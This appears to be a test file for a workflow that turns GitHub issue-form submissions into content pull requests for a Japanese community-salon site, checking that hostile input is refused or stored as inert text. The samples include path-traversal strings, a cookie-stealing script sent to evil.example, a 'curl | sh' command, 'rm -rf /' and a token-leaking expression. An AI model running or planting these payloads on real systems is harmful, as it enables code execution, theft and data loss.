import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { TOWNS } from '../../../tests/towns.ts';
import { COLLECTIONS } from '../../schemas/index.ts';
import { parseContentFile } from '../safety/frontmatter.ts';
import { entryText } from './entry-file.ts';
import { FORM_LABELS } from './issue-body.ts';
import {
	codeBlock,
	failureComment,
	LABELS,
	prepare,
	pullRequestTexts,
	readIssueEvent,
	type IssueEvent,
	type Plan,
} from './issue-workflow.ts';
import { formBody, labeledEvent, REPORT, REPORT_PATH, SALON, SALON_PATH } from './test-fixtures.ts';

const work = mkdtempSync(join(tmpdir(), 'sasaeai-issue-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));
let root = '';
let count = 0;
beforeEach(() => {
	root = join(work, `town-${++count}`, 'content');
	cpSync(TOWNS.kawanami, root, { recursive: true });
});

/** Every file under the work folder (every town copy), for proving nothing was written anywhere else. */
const allFiles = (dir = work): string[] =>
	readdirSync(dir, { withFileTypes: true }).flatMap((d) =>
		d.isDirectory() ? allFiles(join(dir, d.name)) : [relative(work, join(dir, d.name))],
	);

const event = (body: string, over: Parameters<typeof labeledEvent>[1] = {}): IssueEvent => {
	const read = readIssueEvent(labeledEvent(body, over));
	if ('problem' in read) throw new Error(read.problem);
	return read;
};
const run = (body: string, over: Parameters<typeof labeledEvent>[1] = {}) => {
	const before = allFiles();
	const plan = prepare(event(body, over), { root, repositoryPath: (f) => `content/${relative(root, f)}`, today: '2026-11-01' });
	const added = allFiles().filter((f) => !before.includes(f));
	return { plan, added };
};
/** A refused issue: not ok, nothing written anywhere, the problems mention every word. */
const refused = (body: string, ...words: string[]) => {
	const { plan, added } = run(body);
	expect(plan.ok, plan.problems.join('\n')).toBe(false);
	expect(added).toEqual([]);
	for (const word of words) expect(plan.problems.join('\n')).toContain(word);
	return plan;
};

describe('prepare: a valid salon', () => {
	test('is written into the content folder, byte for byte entryText of the parsed data, and passes its schema', () => {
		const { plan, added } = run(formBody());
		expect(plan).toMatchObject({
			ok: true,
			issue: 12,
			base: 'main',
			path: SALON_PATH,
			repoPath: `content/${SALON_PATH}`,
			title: '下川 夕日カフェ',
			created: true,
			problems: [],
		});
		expect(added).toEqual([relative(work, join(root, SALON_PATH))]);
		const written = readFileSync(join(root, SALON_PATH), 'utf8');
		const parsed = parseContentFile(SALON);
		expect(written).toBe(entryText(parsed.data, parsed.body));
		expect(COLLECTIONS.salons.schema.safeParse(parseContentFile(written).data).success).toBe(true);
	});
	test('a fix to a file already there updates it and says so', () => {
		const path = 'salons/shimogawa/shimogawa-ekimae-engawa.md';
		const original = readFileSync(join(root, path), 'utf8');
		const { plan, added } = run(formBody({ path, file: original.replace('weekdays: [水]', 'weekdays: [木]') }));
		expect(plan).toMatchObject({ ok: true, created: false });
		expect(added).toEqual([]);
		const written = readFileSync(join(root, path), 'utf8');
		expect(written).toContain('weekdays:\n        - 木');
		expect(written).toContain('location: { lat: 35.2356, lng: 136.0329 }'); // an unchanged field keeps its line
	});
	test("npm run check's warnings on the new file are kept for the coordinator (private data in a report)", () => {
		const { plan } = run(formBody({ path: REPORT_PATH, file: REPORT }));
		expect(plan.ok).toBe(true);
		expect(plan.warnings.join('\n')).toContain('山田さん');
		expect(plan.warnings.join('\n')).toContain('090-1234-5678');
	});
});

describe('prepare refuses, and writes nothing', () => {
	test("an issue without the form's label, or another label", () => {
		expect(run(formBody(), { labels: ['ファイルにする'] }).plan.problems[0]).toContain(LABELS.form);
		expect(run(formBody(), { label: 'フォームから' }).plan.problems[0]).toContain(LABELS.make);
	});
	test.each([
		['../../../.github/workflows/x.md'],
		['salons/shimogawa/../../../../x.md'],
		['/tmp/x.md'],
		['.github/workflows/x.yml'],
		['salons\\shimogawa\\x.md'],
		['salons%2Fshimogawa%2Fx.md'],
		['salons/shimogawa/%2e%2e%2fx.md'],
		['salons/ｓｈｉｍｏｇａｗａ/x.md'],
		['salons/shimogawa/ѕalon.md'],
		['SALONS/shimogawa/x.md'],
		['salons/shimogawa/yuhi cafe.md'],
		['salons/shimogawa/-x.md'],
		['reports/shimogawa/x.mdx'],
	])('the path %j', (path) => {
		refused(formBody({ path }), `「${FORM_LABELS.path}」`);
	});
	test('a path that goes through a symbolic link in the content folder', () => {
		symlinkSync(work, join(root, 'salons', 'elsewhere'));
		refused(formBody({ path: 'salons/elsewhere/x.md' }), 'シンボリックリンク');
	});
	test("an area id the town does not have (the check's own reader finds it), and the file is taken away again", () => {
		const file = SALON.replace('area: shimogawa', 'area: aoba');
		refused(formBody({ path: 'salons/aoba/aoba-yuhi-cafe.md', file }), '「area」', 'aoba');
		expect(existsSync(join(root, 'salons/aoba'))).toBe(false);
	});
	test('a refused fix leaves the file already there as it was', () => {
		const path = 'salons/shimogawa/shimogawa-ekimae-engawa.md';
		const original = readFileSync(join(root, path), 'utf8');
		refused(formBody({ path, file: original.replace('area: shimogawa', 'area: kamigawa') }), '「area」');
		expect(readFileSync(join(root, path), 'utf8')).toBe(original);
		// The town has the area, but the check's reader refuses a photo that is not in public/photos/.
		refused(formBody({ path, file: `${original}\n![集会所](/photos/nowhere.jpg)\n` }), 'nowhere.jpg');
		expect(readFileSync(join(root, path), 'utf8')).toBe(original);
	});
	test.each([
		['a YAML tag', SALON.replace('category: 居場所', 'category: !!js/function "() => 1"'), 'タグ'],
		['an anchor and an alias', SALON.replace('target: どなたでも', 'target: &t どなたでも\nbring: *t'), 'アンカー'],
		['a merge key', SALON.replace('status: 活動中', 'status: 活動中\n<<: { capacity: 3 }'), '「<<」'],
		['a __proto__ key', SALON.replace('status: 活動中', 'status: 活動中\n__proto__: { admin: true }'), '「__proto__」'],
		['a duplicate key', SALON.replace('status: 活動中', 'status: 活動中\nname: 別の名前'), '同じ項目名が2回'],
		['a script tag', `${SALON}\n<script>fetch('https://evil.example/'+document.cookie)</script>\n`, '<script>'],
		['a javascript: url', SALON.replace('status: 活動中', 'status: 活動中\nurl: "javascript:alert(document.domain)"'), '「url」'],
		['a NUL', SALON.replace('name: 下川 夕日カフェ', 'name: "夕日\\0カフェ"'), 'U+0000'],
		['a right-to-left override', SALON.replace('name: 下川 夕日カフェ', 'name: 夕日\u202eカフェ'), 'U+202E'],
		[
			'a bare CR (written as a YAML escape: a raw one is read as a line end)',
			SALON.replace(/^summary: .*$/m, 'summary: "川沿いの\\r集会所"'),
			'U+000D',
		],
	])('%s in the file', (_name, file, word) => {
		refused(formBody({ file }), word);
	});
	test('a forged heading inside the note cuts into the file, which is refused', () => {
		refused(formBody({ note: `よろしく\n\n### ${FORM_LABELS.note}\n\n${'```'}yaml\n---\nname: x\n---\n${'```'}` }), '「ファイルの中身」');
	});
	test('a huge body', () => {
		refused(formBody({ file: `${SALON}\n${'長い文章。'.repeat(20_000)}\n` }), '長すぎます');
		refused(formBody({ file: `${SALON}\n${'長い文章。'.repeat(8_000)}\n` }), '大きすぎます');
	});
});

describe('prepare: values a shell or a workflow would read are written as inert data', () => {
	const hostile = '$(curl -s https://evil.example | sh) `id` ${{ secrets.GITHUB_TOKEN }} ::error::x; rm -rf / && echo "done"';
	test('the file is written, and each value reads back as exactly the text that was sent', () => {
		const file = SALON.replace('target: どなたでも', `target: ${JSON.stringify(hostile)}`);
		const body = `${file}\n${hostile.replace('::error::', '')}\n`;
		const { plan } = run(formBody({ file: body }));
		expect(plan.ok, plan.problems.join('\n')).toBe(true);
		const written = parseContentFile(readFileSync(join(root, SALON_PATH), 'utf8'));
		expect(written.data['target']).toBe(hostile);
		expect(written.body).toContain('$(curl -s https://evil.example | sh)');
	});
	test('a forged heading inside the file stays in the body of the entry', () => {
		const file = `${SALON}\n### ${FORM_LABELS.note}\n\nふつうの見出しとして\n`;
		const { plan } = run(formBody({ file }));
		expect(plan.ok, plan.problems.join('\n')).toBe(true);
		expect(parseContentFile(readFileSync(join(root, SALON_PATH), 'utf8')).body).toContain(
			`### ${FORM_LABELS.note}\n\nふつうの見出しとして`,
		);
	});
});

describe('readIssueEvent', () => {
	test('reads the number, the body, the labels, the label just added and the default branch', () => {
		expect(readIssueEvent(labeledEvent('本文'))).toEqual({
			number: 12,
			body: '本文',
			labels: ['フォームから', 'ファイルにする'],
			label: 'ファイルにする',
			defaultBranch: 'main',
		});
		expect(readIssueEvent({ ...labeledEvent('x'), issue: { ...labeledEvent('x').issue, body: null } })).toMatchObject({ body: '' });
	});
	test.each([
		['no issue', {}],
		['a pull request', { ...labeledEvent('x'), issue: { ...labeledEvent('x').issue, pull_request: {} } }],
		['a number that is not one', { ...labeledEvent('x'), issue: { ...labeledEvent('x').issue, number: '12; rm -rf /' } }],
		['a body that is not text', { ...labeledEvent('x'), issue: { ...labeledEvent('x').issue, body: { a: 1 } } }],
		['a default branch that climbs', { ...labeledEvent('x'), repository: { default_branch: '../../x' } }],
		['a default branch with a space', { ...labeledEvent('x'), repository: { default_branch: 'main x' } }],
	])('refuses %s', (_name, json) => {
		expect(readIssueEvent(json)).toHaveProperty('problem');
	});
});

describe('texts', () => {
	const plan: Plan = {
		issue: 12,
		base: 'main',
		ok: true,
		problems: [],
		warnings: ['「個人情報」: 「山田さん」は ``` @someone [x](javascript:1) <img src=x>'],
		path: SALON_PATH,
		repoPath: `content/${SALON_PATH}`,
		title: `${'長い名前'.repeat(30)}\u202e`,
		created: true,
	};
	test('a code block cannot be closed from inside, and holds one line per item', () => {
		const block = codeBlock(['a ```` b', 'c\nd\u202e']);
		expect(block.split('\n')).toEqual(['`````text', 'a ```` b', 'c\\nd\\u202e', '`````']);
	});
	test('the pull request names the issue, the file and the checks; the warnings are inside a code block', () => {
		const { title, body, message } = pullRequestTexts(plan, true);
		expect(title).toMatch(/^長い名前.*… を追加（#12 のフォームから）$/);
		expect(title).not.toContain('\u202e');
		expect(message).toBe(title);
		expect(body).toContain('#12 でフォームから送られたファイル');
		expect(body).toContain(`\`content/${SALON_PATH}\`（新しいファイル）`);
		expect(body).toContain('Approve workflows to run');
		expect(body).toContain('Reopen pull request');
		const fenced = /\n(`{3,})text\n([\s\S]*?)\n\1\n/.exec(body);
		// Inside the block too, words stay words (src/lib/safety/github-words.ts).
		expect(fenced?.[2]).toContain('＠someone');
		expect(body.replace(fenced![0], '')).not.toMatch(/@someone|javascript:|<img/);
		expect(pullRequestTexts(plan, false).title).toContain('を更新');
	});
	test('the failure comment says what went wrong at each step, quoting the issue only inside a code block', () => {
		const refusedPlan: Plan = { ...plan, ok: false, problems: ['「@team」という項目はありません ![x](https://evil.example/t.png)'] };
		const comment = failureComment(refusedPlan, { prepare: 'failure' }, 'https://github.com/town/site/actions/runs/1');
		expect(comment).toContain('直すところがあります');
		expect(comment).toContain('https://github.com/town/site/actions/runs/1');
		expect(comment).toContain(LABELS.make);
		const fenced = /\n(`{3,})text\n([\s\S]*?)\n\1\n/.exec(comment)!;
		expect(fenced[2]).toContain('@team');
		expect(comment.replace(fenced[0], '')).not.toMatch(/@team|evil/);
		expect(failureComment(plan, { check: 'failure' }, undefined)).toContain('npm run check');
		expect(failureComment({ ...plan, publishError: 'HTTP 403' }, { publish: 'failure' }, undefined)).toContain('HTTP 403');
		expect(failureComment(undefined, {}, undefined)).toContain('Issue を読む前に止まりました');
	});
});

test('the fixture town is untouched by the tests (they work on copies)', () => {
	expect(statSync(TOWNS.kawanami).isDirectory()).toBe(true);
	expect(existsSync(join(TOWNS.kawanami, SALON_PATH))).toBe(false);
});
